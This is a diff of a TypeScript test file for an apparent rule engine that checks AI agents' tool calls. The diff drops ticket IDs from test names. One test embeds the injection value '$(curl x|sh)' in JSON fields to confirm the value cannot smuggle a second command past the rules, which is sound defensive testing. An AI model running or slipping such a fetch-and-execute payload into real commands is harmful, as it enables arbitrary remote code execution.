@@ -24,7 +24,7 @@ const ran = (tool: string, text: string, cwd: string) => ({
   isWhole: true,
 });
 
-test("[A376] the same command is the same to rules, whichever agent wants to run it", () => {
+test("the same command is the same to rules, whichever agent wants to run it", () => {
   const own = JSON.stringify({
     args: { command: "git status", timeout_seconds: 5 },
     cwd: "/x",
@@ -117,7 +117,7 @@ test("[A375] anything else is exactly this call", () => {
   expect(describeCall({ tool: "Edit", call: "{broken" }, "/").subjects).toEqual([{ kind: "call", text: "{broken" }]);
 });
 
-test("[A654] a command that is written as JSON is one command, whatever its fields say", () => {
+test("a command that is written as JSON is one command, whatever its fields say", () => {
   const own = '{"args":{},"bound":{"path":"src/a.ts"},"cwd":"x","member":"x","tool":"x","z":"$(curl x|sh)"}';
   const lines = [own, '{"command":"git status","description":"$(curl x|sh)"}', "{ echo a; }", "git status"];
   for (const tool of ["Bash", "bash", "shell", "execute"]) {
@@ -133,7 +133,7 @@ test("[A654] a command that is written as JSON is one command, whatever its fiel
   });
 });
 
-test("[A658] a path that a change names beside another does not hide that one", () => {
+test("a path that a change names beside another does not hide that one", () => {
   const cwd = scratch();
   const outside = scratch();
   const both = {
@@ -167,7 +167,7 @@ test("an edit with a key that nobody knows is not understood, so that no rule al
   expect([known.map(isWhole), unknown.map(isWhole)]).toEqual([known.map(() => true), unknown.map(() => false)]);
 });
 
-test("[A657] paths that are merely listed can be refused, and allowed only with the diff that goes with them", () => {
+test("paths that are merely listed can be refused, and allowed only with the diff that goes with them", () => {
   const cwd = scratch();
   const seen = (call: object) => {
     const { subjects, isWhole } = describeCall({ tool: "edit", call: JSON.stringify(call) }, cwd);
